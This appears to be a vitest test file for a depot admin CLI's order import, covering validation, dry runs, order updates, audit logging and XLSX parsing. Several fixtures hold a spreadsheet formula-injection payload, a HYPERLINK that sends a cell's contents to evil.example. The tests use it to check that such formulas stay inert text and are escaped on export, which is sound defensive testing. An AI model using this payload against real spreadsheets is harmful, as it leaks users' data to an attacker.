import fs from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runAdmin, runAdminJson } from '../../test/admin-cli';
import { parseCsv } from '../../test/export-files';
import { backends, createTestContext, createTestEnv, type TestEnv } from '../../test/harness';
import type { ServerContext } from '../context';
import type { ServerImportResult } from '../provisioning/order-import';
import { presentStop } from '../sync/presenters';

/** `depotline-admin import orders`: IT's first load, through the console's validator and the push's handlers, on both databases. */
describe.each(backends)('depotline-admin import orders (%s)', (backend) => {
  let env: TestEnv;
  let ctx: ServerContext;
  const depot = 'depot-north';
  const hyperlink = '=HYPERLINK("http://evil.example/?leak="&B2,"Click")';
  const file = (name: string, content: string | Buffer) => {
    const p = path.join(env.dir, name);
    fs.writeFileSync(p, content);
    return p;
  };
  const csv = (rows: string[]) => ['Order,Customer,Address,From,To,Route,Parcels', ...rows].join('\r\n');
  const good = [
    `A-1,"${hyperlink.replaceAll('"', '""')}",Hafenstr. 1,09:00,11:00,North 1,2`,
    'A-2,Jürgen Müller,Lindenweg 2,10:00,12:00,North 1,1',
  ];

  beforeAll(async () => {
    env = await createTestEnv(backend);
    ctx = await createTestContext(env);
    expect((await runAdmin(env, ['location', 'create', '--id', depot, '--name', 'North', '--timezone', 'Europe/Berlin'])).code).toBe(0);
  });
  afterAll(async () => {
    await ctx?.db.destroy();
    await env?.dispose();
  });

  const count = async (table: 'stops' | 'routes' | 'audit_log') =>
    Number((await sql<{ n: number | string }>`select count(*) as n from ${sql.table(table)}`.execute(ctx.db)).rows[0]!.n);
  const importArgs = (f: string, ...more: string[]) => ['import', 'orders', '--location', depot, '--file', f, '--date', '2026-12-01', ...more];

  it('refuses bad files whole, changing nothing: wrong encoding, a bad row, too many rows', async () => {
    const audit = await count('audit_log');
    const latin1 = await runAdmin(env, importArgs(file('latin1.csv', Buffer.from(csv(['A-1,J\xfcrgen,Street 1,,,North 1,1']), 'latin1'))));
    expect(latin1.code).toBe(1);
    expect(latin1.stderr).toMatch(/not UTF-8.*Windows-1252/);

    const reversed = await runAdmin(env, importArgs(file('reversed.csv', csv([...good, 'A-3,Ann,Street 3,12:00,09:00,North 1,1']))));
    expect(reversed.code).toBe(1);
    expect(reversed.stderr).toContain('1 problem in the file; nothing was imported');
    expect(reversed.stderr).toContain('row 4, To: the window ends (“09:00”) before it starts (“12:00”)');

    const big = ['Order,Customer,Address,Route'];
    for (let i = 0; i < 100_000; i++) big.push(`B-${i},Name,Street,R`);
    const tooMany = await runAdmin(env, importArgs(file('big.csv', big.join('\n'))));
    expect(tooMany.code).toBe(1);
    expect(tooMany.stderr).toContain('more than 20,000 orders');

    const dry = await runAdminJson<{ import: ServerImportResult }>(env, importArgs(file('dry.csv', csv(good)), '--dry-run'));
    expect(dry.json.import).toMatchObject({ dryRun: true, created: 2, updated: 0, routesCreated: 1 });
    expect([await count('stops'), await count('routes'), await count('audit_log')]).toEqual([0, 0, audit]);
  });

  it('imports as the operator, then updates by order reference instead of doubling; a formula stays inert text and is exported escaped', async () => {
    const first = await runAdminJson<{ import: ServerImportResult }>(env, importArgs(file('day.csv', csv(good))));
    expect(first.json.import).toMatchObject({ created: 2, updated: 0, routesCreated: 1, skipped: [], refused: [] });
    const stops = (await ctx.db.selectFrom('stops').selectAll().orderBy('order_ref').execute()).map((r) => presentStop(ctx, r));
    expect(stops.map((s) => [s.orderRef, s.customerName, s.parcelCount, s.sequence])).toEqual([['A-1', hyperlink, 2, 0], ['A-2', 'Jürgen Müller', 1, 1]]);
    expect(stops[0]!.window).toEqual({ start: Date.UTC(2026, 11, 1, 8), end: Date.UTC(2026, 11, 1, 10) });
    const audited = await ctx.db.selectFrom('audit_log').select(['action', 'actor', 'details']).where('action', 'in', ['stop.create', 'route.create']).execute();
    expect(audited).toHaveLength(3);
    expect(audited.every((a) => a.actor.startsWith('cli:'))).toBe(true);
    expect(audited.map((a) => a.details).join()).not.toContain('Müller');

    const again = await runAdminJson<{ import: ServerImportResult }>(env, importArgs(file('day2.csv', csv([good[0]!, 'A-2,Jürgen Müller,Lindenweg 22,10:00,12:00,North 1,1', 'A-9,Eve,Street 9,,,North 2,1']))));
    expect(again.json.import).toMatchObject({ created: 1, updated: 1, routesCreated: 1, skipped: [{ row: 2, reason: 'order A-1 is already there, unchanged' }] });
    expect(await count('stops')).toBe(3);
    const a2 = presentStop(ctx, (await ctx.db.selectFrom('stops').selectAll().where('order_ref', '=', 'A-2').executeTakeFirstOrThrow()));
    expect(a2.address).toBe('Lindenweg 22');

    const out = path.join(env.dir, 'export.csv');
    expect((await runAdmin(env, ['export', 'stops', '--location', depot, '--from', '2026-12-01', '--to', '2026-12-01', '--classes', 'operational,customer', '--out', out])).code).toBe(0);
    const cells = parseCsv(fs.readFileSync(out)).flat();
    expect(cells).toContain(`'${hyperlink}`);
    expect(cells).not.toContain(hyperlink);
  });

  it('reads XLSX: a formula cell is its formula text, never its cached result', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Orders');
    sheet.addRow(['Order', 'Customer', 'Address', 'Route', 'Lat', 'Lng']);
    sheet.addRow(['X-1', { formula: 'HYPERLINK("http://evil.example","x")', result: 'Harmless Name' }, 'Street 1', 'North 1', 52.5, 13.4]);
    sheet.addRow(['X-2', 'Bo', 'Street 2', 'North 1', { formula: '1+1', result: 2 }, 13.4]);
    const xlsx = file('orders.xlsx', Buffer.from(await workbook.xlsx.writeBuffer()));
    const run = await runAdminJson<{ import: ServerImportResult }>(env, importArgs(xlsx, '--skip-invalid'));
    expect(run.json.import).toMatchObject({ created: 1, skipped: [{ row: 3, reason: 'Lat: holds a formula (“=1+1”); formulas are never calculated on import: put the value itself in the cell' }] });
    const x1 = presentStop(ctx, await ctx.db.selectFrom('stops').selectAll().where('order_ref', '=', 'X-1').executeTakeFirstOrThrow());
    expect(x1.customerName).toBe('=HYPERLINK("http://evil.example","x")');
    expect(x1.coordinates).toEqual({ lat: 52.5, lng: 13.4 });
  });
});
